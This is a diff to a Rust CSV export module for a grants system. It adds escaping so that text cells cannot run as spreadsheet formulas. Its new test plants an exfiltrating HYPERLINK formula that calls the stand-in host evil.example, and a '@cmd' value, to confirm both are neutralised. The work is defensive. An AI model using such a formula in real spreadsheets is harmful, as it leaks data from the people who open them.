@@ -1,6 +1,7 @@
 //! `awards.csv`: one row per award with the facts of the 360Giving package, for people
 //! who open data in a spreadsheet. Amounts stay in integer centimes, as everywhere in
-//! Sijill but the 360Giving document; quoting follows RFC 4180 (the `csv` crate).
+//! Sijill but the 360Giving document; quoting follows RFC 4180 (the `csv` crate), and a
+//! text cell a spreadsheet would run as a formula is made text (`crate::spreadsheet`).
 
 use super::Grant;
 
@@ -34,6 +35,15 @@ pub const COLUMNS: [&str; 26] = [
     "audit_trail",
 ];
 
+/// The columns that hold numbers (and a boolean): written as they are, never prefixed.
+pub const NUMERIC_COLUMNS: [&str; 5] = [
+    "fiscal_year",
+    "amount_applied_for_centimes",
+    "amount_awarded_centimes",
+    "amount_disbursed_centimes",
+    "out_of_order",
+];
+
 /// The CSV document: the header, then one row per grant in the given order.
 ///
 /// # Errors
@@ -41,8 +51,9 @@ pub const COLUMNS: [&str; 26] = [
 pub fn write(grants: &[Grant]) -> Result<Vec<u8>, csv::Error> {
     let mut out = csv::Writer::from_writer(Vec::new());
     out.write_record(COLUMNS)?;
+    let numeric = crate::spreadsheet::positions(&COLUMNS, &NUMERIC_COLUMNS);
     for g in grants {
-        out.write_record(record(g))?;
+        out.write_record(crate::spreadsheet::text_row(record(g), &numeric))?;
     }
     out.into_inner().map_err(|e| e.into_error().into())
 }
@@ -112,6 +123,29 @@ mod tests {
         // The comma and quotes in the name survive a round trip, quoted in the file.
         assert_eq!(cell(1, "association_name"), "Jeunesse Active, \"Salé\"");
         assert!(text.contains("\"Jeunesse Active, \"\"Salé\"\"\""), "{text}");
+    }
+
+    #[test]
+    fn a_formula_in_a_text_cell_is_made_text() {
+        let mut grants = fixture::grants();
+        grants[0].association_name = "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")".into();
+        grants[0].revocation_reason = Some("@cmd".into());
+        let bytes = write(&grants).unwrap();
+        let mut reader = csv::Reader::from_reader(bytes.as_slice());
+        let row = reader.records().next().unwrap().unwrap();
+        let cell =
+            |column: &str| row[COLUMNS.iter().position(|c| *c == column).unwrap()].to_owned();
+        assert_eq!(
+            cell("association_name"),
+            "'=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Voir\")"
+        );
+        assert_eq!(cell("revocation_reason"), "'@cmd");
+        assert_eq!(cell("amount_disbursed_centimes"), "7500050");
+        // Every numeric column name is a column.
+        assert_eq!(
+            crate::spreadsheet::positions(&COLUMNS, &NUMERIC_COLUMNS).len(),
+            NUMERIC_COLUMNS.len()
+        );
     }
 
     #[test]
